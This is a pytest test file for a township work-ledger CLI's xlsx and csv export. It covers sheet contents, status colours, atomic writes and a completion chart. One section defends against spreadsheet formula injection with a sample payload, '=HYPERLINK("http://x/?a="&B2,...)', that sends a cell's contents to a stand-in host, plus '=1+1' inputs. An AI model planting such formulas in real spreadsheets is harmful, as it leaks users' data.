"""lanxi export: the 工作台账 as .xlsx (four sheets) or the obligations as .csv."""

from __future__ import annotations

import csv
import json
import os

import pytest
from scenario import AS_OF, REPORTS, write_reports


@pytest.fixture
def ledger(cli, data_dir, tmp_path):
    from openpyxl import load_workbook

    write_reports(data_dir)
    out = tmp_path / "台账.xlsx"
    result = cli("export", "-o", str(out), "--data", str(data_dir), "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    return load_workbook(out)


def rows_of(sheet) -> list[dict]:
    """A sheet's rows under its header (row 2; row 1 is the sheet's title)."""
    values = list(sheet.iter_rows(values_only=True))
    return [dict(zip(values[1], row, strict=True)) for row in values[2:]]


def cli_json(cli, data_dir, *args):
    result = cli(*args, "--data", str(data_dir), "--as-of", AS_OF, "--format", "json")
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def test_workbook_sheets_title_rows_and_creator(ledger):
    assert ledger.sheetnames == ["任务", "义务", "报告", "佐证材料", "按单位", "考核"]
    assert AS_OF in ledger.properties.title
    assert ledger.properties.creator == "lanxi"
    for sheet in ledger:
        what = "各单位完成情况" if sheet.title == "按单位" else sheet.title
        assert sheet["A1"].value == f"兰溪镇专项行动工作台账 · {what}（截至{AS_OF}）"


def test_tasks_sheet_matches_tasks(ledger, cli, data_dir):
    tasks = cli_json(cli, data_dir, "tasks")
    rows = rows_of(ledger["任务"])
    assert [r["任务编号"] for r in rows] == [t["id"] for t in tasks]
    assert [r["牵头单位"] for r in rows] == [t["lead"] for t in tasks]
    assert [r["逾期单位"] or "" for r in rows] == ["、".join(t["overdue_units"]) for t in tasks]


def test_obligations_sheet_has_states_coloured(ledger, cli, data_dir):
    rows = rows_of(ledger["义务"])
    units = cli_json(cli, data_dir, "status")["units"]
    assert len(rows) == sum(u["total"] for u in units)
    sheet = ledger["义务"]
    state_col = list(next(sheet.iter_rows(min_row=2, max_row=2, values_only=True))).index("状态") + 1

    def cell(task, unit, period=None):
        index = next(i for i, r in enumerate(rows) if (r["任务编号"], r["单位"], r["周期"]) == (task, unit, period))
        return rows[index], sheet.cell(row=index + 3, column=state_col)

    fills = {}
    for task, unit, state in (("1.1", "苏家湖村", "已完成"), ("1.1", "黄湖村", "逾期完成"),
                              ("1.1", "北岸新村", "已逾期"), ("1.1", "千家洲村", "已逾期")):
        row, state_cell = cell(task, unit)
        assert row["状态"] == state
        fills[state] = state_cell.fill.fgColor.rgb
    assert len(set(fills.values())) == 3  # three states, three colours
    row, _ = cell("1.1", "苏家湖村")
    assert row["截止日期"].date().isoformat() == "2020-09-03"
    assert row["完成日期"].date().isoformat() == "2020-09-02"
    row, _ = cell("6.3", "中心校", "2020年8月")
    assert row["状态"] == "已完成"


def test_reports_sheet_lists_every_report_known_on_the_day(ledger):
    rows = rows_of(ledger["报告"])
    known = [r for r in REPORTS if r[2] <= AS_OF]  # 千家洲村's report of 09-20 is not known on 09-15
    assert len(rows) == len(known) == len(REPORTS) - 1
    assert sorted((r["任务编号"], r["单位"], r["日期"].date().isoformat()) for r in rows) == sorted(
        (task, unit, date) for task, unit, date, *_ in known
    )


def test_assessment_sheet_matches_assess(ledger, cli, data_dir):
    rows = rows_of(ledger["考核"])
    expected = cli_json(cli, data_dir, "assess")
    got = [(r["单位"], r["名次"], r["已逾期"]) for r in rows]
    assert got == [(e["unit"], e["rank"], e["overdue"]) for e in expected]
    assert [r["得分"] for r in rows] == pytest.approx([e["score"] for e in expected], abs=0.01)


def test_csv_gets_the_obligations(cli, data_dir, tmp_path):
    write_reports(data_dir)
    out = tmp_path / "义务.csv"
    result = cli("export", "-o", str(out), "--data", str(data_dir), "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads the Chinese
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    units = cli_json(cli, data_dir, "status")["units"]
    assert len(rows) == sum(u["total"] for u in units)
    first = next(r for r in rows if r["任务编号"] == "1.1" and r["单位"] == "黄湖村")
    assert (first["截止日期"], first["状态"], first["完成日期"]) == ("2020-09-03", "逾期完成", "2020-09-10")


def test_export_needs_a_known_suffix(cli, data_dir, tmp_path):
    result = cli("export", "-o", str(tmp_path / "x.ods"), "--data", str(data_dir))
    assert result.exit_code == 2 and ".xlsx" in result.output
    assert not (tmp_path / "x.ods").exists()
    assert cli("export", "--data", str(data_dir)).exit_code == 2  # -o is required


def test_a_failed_write_leaves_the_old_file_whole(tmp_path):
    from lanxi_cli.errors import DataError
    from lanxi_cli.io import save

    out = tmp_path / "台账.xlsx"
    out.write_bytes(b"old ledger")

    def broken(handle):
        handle.write(b"half")
        raise OSError("disk full")

    with pytest.raises(DataError, match="台账.xlsx: 无法写入（disk full），原文件未改动"):
        save.write_replace(out, broken)
    assert out.read_bytes() == b"old ledger"
    assert [p.name for p in tmp_path.iterdir()] == ["台账.xlsx"]
    save.write_replace(out, lambda handle: handle.write(b"new"))
    assert out.read_bytes() == b"new"
    assert [p.name for p in tmp_path.iterdir()] == ["台账.xlsx"]


def test_start_up_stays_light():
    """The commands import openpyxl and python-docx only when they write a file."""
    import subprocess
    import sys

    from conftest import ROOT

    heavy = "('openpyxl', 'docx', 'rich', 'yaml', 'pydantic')"
    code = f"import lanxi_cli.cli, sys; print(sorted(m for m in {heavy} if m in sys.modules))"
    result = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True)
    assert result.stdout.strip() == "[]", result.stderr


def test_a_failed_write_is_a_clear_error(cli, tmp_path, monkeypatch):
    """A full disk while the ledger is written: exit 1, one sentence naming the file, nothing left."""
    import errno

    def full(*args):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    result = cli("export", "-o", str(tmp_path / "台账.xlsx"), "--data", "data", "--as-of", "2020-09-04")
    assert result.exit_code == 1
    assert "台账.xlsx: 无法写入（磁盘空间已满），原文件未改动" in result.stderr
    assert "Traceback" not in result.output
    assert list(tmp_path.iterdir()) == []


# ---- every field, every review, never a formula --------------------------------------------

HOSTILE = '=HYPERLINK("http://x/?a="&B2,"查看")'


@pytest.fixture
def reviewed(cli, data_dir, tmp_path_factory):
    """Reports with every field filled (one hostile, its evidence file's name too), one claim approved and one
    rejected."""
    common = ("--data", str(data_dir), "--as-of", AS_OF, "--no-commit")
    photo = tmp_path_factory.mktemp("photos") / "=1+1 墙报.jpg"
    photo.write_bytes(b"\xff\xd8\xff\xd9")

    def add(*args):
        result = cli("report", "add", *args, *common)
        assert result.exit_code == 0, result.output
        return result.stdout.strip()

    full = add("-t", "6.1", "-u", "苏家湖村", "-d", "2020-09-05", "-s", "进行中", "--rate", "0.6", "-n", "2",
               "--note", HOSTILE, "--by", "=1+1", "-e", str(photo), "-e", "https://example.org/m")
    approved = add("-t", "1.1", "-u", "苏家湖村", "-d", "2020-09-02", "-s", "完成")
    rejected = add("-t", "1.1", "-u", "黄湖村", "-d", "2020-09-02", "-s", "done")
    for path, verdict in ((approved, "--approve"), (rejected, "--reject")):
        result = cli("report", "review", path, verdict, "--by", "禁毒办", *common)
        assert result.exit_code == 0, result.output
    return data_dir, full, approved, rejected


def export_xlsx(cli, data_dir, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "台账.xlsx"
    result = cli("export", "-o", str(out), "--data", str(data_dir), "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    assert result.stdout == f"{out}\n"  # the path written
    return load_workbook(out)


def test_reports_sheet_has_every_report_field_and_its_review(cli, reviewed, tmp_path):
    from pathlib import Path

    data_dir, full, approved, rejected = reviewed
    rows = {r["报告编号"]: r for r in rows_of(export_xlsx(cli, data_dir, tmp_path)["报告"])}
    listed = {r["id"]: r for r in cli_json(cli, data_dir, "report", "list")}
    assert set(rows) == set(listed) == {Path(p).stem for p in (full, approved, rejected)}
    row, src = rows[Path(full).stem], listed[Path(full).stem]
    assert (row["任务编号"], row["单位"], row["状态"]) == ("6.1", "苏家湖村", "进行中")
    assert (row["数量"], row["比率"], row["分项"]) == (2, 0.6, None)
    assert row["周期"] is None and src["period"] is None  # 6.1 is a one-off task
    assert (row["说明"], row["报告人"]) == (HOSTILE, "=1+1")
    assert row["佐证"] == "https://example.org/m\n=1+1 墙报.jpg"  # links, then the files by name
    assert row["记录时间"] == src["recorded"] and row["文件"] == src["file"]
    assert rows[Path(approved).stem]["审核结果"] == "已同意（已核验）"
    assert rows[Path(rejected).stem]["审核结果"] == "已退回"


def test_obligations_sheet_has_the_review_result_and_full_text(cli, reviewed, tmp_path):
    data_dir = reviewed[0]
    rows = rows_of(export_xlsx(cli, data_dir, tmp_path)["义务"])
    task_text = {t["id"]: t["text"] for t in cli_json(cli, data_dir, "tasks")}
    for row in rows:
        assert row["任务内容"] == task_text[row["任务编号"]]  # whole, never cut

    def one(task, unit):
        return next(r for r in rows if (r["任务编号"], r["单位"]) == (task, unit))

    assert (one("1.1", "苏家湖村")["状态"], one("1.1", "苏家湖村")["核验"]) == ("已完成", "已核验")
    assert (one("1.1", "黄湖村")["状态"], one("1.1", "黄湖村")["核验"]) == ("已逾期", "已退回")  # a rejected claim


def test_no_user_text_becomes_a_formula(cli, reviewed, tmp_path):
    """Every text cell is a string, so a note that starts with = stays text in Excel."""
    book = export_xlsx(cli, reviewed[0], tmp_path)
    texts = 0
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                texts += isinstance(cell.value, str)
    assert texts > 100
    cells = [c for row in book["报告"].iter_rows() for c in row if c.value in (HOSTILE, "=1+1")]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)


def test_csv_outputs_prefix_formula_starts(cli, reviewed, tmp_path):
    data_dir = reviewed[0]
    out = cli("report", "list", "--data", str(data_dir), "--as-of", AS_OF, "--format", "csv").stdout
    rows = list(csv.DictReader(out.splitlines()))
    hostile = next(r for r in rows if r["任务编号"] == "6.1")
    assert (hostile["说明"], hostile["报告人"]) == ("'" + HOSTILE, "'=1+1")
    from lanxi_cli.render.shapes import csv_cell

    assert [csv_cell(v) for v in ("=a", "+a", "-a", "@a", "\ta", "\ra", "a=", -1, 2.5)] == [
        "'=a", "'+a", "'-a", "'@a", "'\ta", "'\ra", "a=", "-1", "2.5"]


def test_a_native_chart_of_completion_by_unit(ledger, cli, data_dir):
    sheet = ledger["按单位"]
    rows = rows_of(sheet)
    status = {u["unit"]: u for u in cli_json(cli, data_dir, "status")["units"]}
    assert [r["单位"] for r in rows] == list(status)
    for r in rows:
        s = status[r["单位"]]
        counts = (r["按时完成"], r["逾期完成"], r["已逾期"], r["即将到期"], r["未到期"])
        assert counts == (s["done"], s["late"], s["overdue"], s["due_soon"], s["open"])
    [chart] = sheet._charts
    assert chart.tagname == "barChart" and chart.grouping == "stacked"
    refs = [s.val.numRef.f for s in chart.series]
    assert refs[0] == f"'按单位'!$D$3:$D${len(rows) + 2}" and len(refs) == 5
    assert {s.cat.strRef.f for s in chart.series} == {f"'按单位'!$A$3:$A${len(rows) + 2}"}  # named by unit


def test_every_unit_behind_is_in_the_ledger(ledger, cli, data_dir):
    behind = {u["unit"] for u in cli_json(cli, data_dir, "status")["units"] if u["overdue"]}
    assert len(behind) == 31
    obligations = rows_of(ledger["义务"])
    assert {r["单位"] for r in obligations if r["状态"] == "已逾期"} == behind
    scored = {r["单位"] for r in obligations if r["状态"] == "已逾期" and r["计入考核"] == "是"}
    # the assessment counts only what is scored
    assert {r["单位"] for r in rows_of(ledger["考核"]) if r["已逾期"]} == scored < behind
